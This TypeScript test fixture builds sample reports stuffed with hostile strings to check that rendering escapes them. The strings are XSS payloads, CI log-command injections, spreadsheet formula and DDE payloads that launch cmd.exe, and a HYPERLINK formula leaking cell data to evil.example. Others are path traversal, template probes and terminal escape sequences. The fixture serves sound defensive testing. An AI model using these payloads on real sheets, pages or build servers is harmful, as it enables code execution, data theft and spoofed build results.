/** Strings that do something to a terminal, a page, a sheet, a parser or a build server, and reports that are full of them. */
import type { Report } from '../../src/model.ts';
import { perfect, reportOf, rich, unjudged } from '../render/fixtures.ts';
import { hostile as toTerminals } from '../render/hostile.ts';

export const corpus: readonly string[] = [
  ...toTerminals,
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><style>*{display:none}</style>',
  '<!-- --><!doctype html>',
  '</details></summary></pre></td></table>',
  'javascript:alert(1)',
  ']]>',
  '<![CDATA[x]]>',
  '<!ENTITY a "b">&a;&amp;&#0;&#x1b;',
  '::error file=a.ts,line=1::boo',
  '第一行\n::set-output name=a::b\r\n::stop-commands::x',
  '\t ::add-mask::x',
  '%0A::error::x%25',
  'a,b:c=d',
  '##[error]x',
  '####[group]x',
  '##vso[task.setvariable variable=a;isOutput=true]b',
  "##teamcity[buildProblem description='x']",
  "|n|'|]|[|0x0041",
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '  =1',
  '＝1＋1',
  '"=1"',
  '\t=1',
  '一,二;三"四"',
  '| a | b |',
  '\\| \\` \\\\',
  '`code` ```',
  '**粗** _斜_ ~~删~~ # 题',
  '[链](javascript:alert(1)) ![图](http://evil.example/x.png)',
  'https://evil.example/ www.evil.example a@evil.example <https://evil.example>',
  '@everyone #1 !2 GH-3 $x$ :smile:',
  '- 项\n\n> 引\n\n---\n\n    码',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that it is not expanded is the point
  '{{ 7*7 }} ${7*7} <%= 7*7 %>',
  '../../etc/passwd',
  'C:\\windows\\x.yaml',
  '区 财政局?#%25.yaml',
  '',
  ' ',
  '"',
  "'",
  '\\',
  '\u0000',
  '\ufffe\uffff',
  // Links and titles of terminals that end in ST, also in the one-byte forms of C1
  '\u001b]8;;https://evil.example/\u001b\\点\u001b]8;;\u001b\\\u009d0;题\u009c\u0090q\u009c\u008d',
  '\u202a\u202b\u202d反\u202c\u2068\u2069\u200e\u200f\u{e0001}\u{e007f}',
  '<svg onload=alert(1)><script xlink:href="data:text/javascript,alert(1)"/></svg>',
  '--><script>alert(1)</script><math><mtext><style><img src=x onerror=alert(1)></style>',
  '&#x1b;[31m &#27; &lt;script&gt; &Tab;javascript&colon;alert(1)',
  '[a]: javascript:alert(1) "x"\n[a]\n<!-- x\n===\n|a|\n|-|\n```\n~~~',
  '[a][b] ![x][y] <a href=x>y</a> [^1] \\[x\\](y) &amp;lt;',
  '＋1＋1',
  '－1',
  '＠SUM(1)',
  '\r=1+1',
  ';=1+1\n=1\t=1\r@A1',
  '=HYPERLINK("http://evil.example?"&A1,"点")',
  '_x001B_[31m_x000D__x0000_ _x005F_x000A_',
  '\u0013 DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \u0014x\u0015 { INCLUDETEXT "C:\\\\a" } { HYPERLINK "x" }',
  '\u2028::error::x\u0085##[command]x\v::add-path::x',
  '##vso[task.complete result=Failed;]x ##[section]y ##teamcity[x]',
  'a\'b"c%0A::error::d,e;f?g*h|i<j>k:l.yaml',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\n DTSTART;X="a":1',
];

const waived = {
  reason: '网站改版',
  approver: '区府办',
  granted: '2017-06-01',
  expires: '2018-06-30',
  place: { file: 'waivers.yaml', line: 1, column: 1, endLine: 1, endColumn: 2, excerpt: '-' },
};

/** Values of a closed set, and numbers: no file can put anything else there. */
const CLOSED = new Set([
  ...['$schema', 'status', 'state', 'result', 'final', 'level', 'rule', 'kind', 'severity', 'from', 'failOn'],
  ...['exact', 'digest', 'date', 'due', 'code', 'credits', 'group', 'version', 'granted', 'expires'],
]);

/** Two gaps of each requirement and one of them waived are as good as all. */
const small = {
  ...rich,
  sections: rich.sections.map((section) => ({
    ...section,
    points: section.points.map((point) => ({
      ...point,
      findings: point.findings.map((finding) => ({
        ...finding,
        gaps: finding.gaps.slice(0, 2).map((gap, i) => (i === 0 ? gap : { ...gap, waived })),
      })),
    })),
  })),
};

/** The report with a string put at the end, or in place, of every string that a file may have written. */
export const reportWith = (text: string, how: 'after' | 'instead' = 'after'): Report => {
  const change = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') {
      if (CLOSED.has(key)) return value;
      return how === 'instead' && key !== 'id' ? text : `${value}${text}`;
    }
    if (Array.isArray(value)) return value.map((inner) => change(inner, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, change(inner, name)]));
  };
  const { tool, $schema, form, ...rest } = reportOf([small, unjudged, perfect], {
    waivers: { file: 'waivers.yaml', digest: 'sha256:3', entries: [] },
  });
  return { $schema, form, tool, ...(change(rest, '') as Omit<Report, 'tool' | '$schema' | 'form'>) };
};
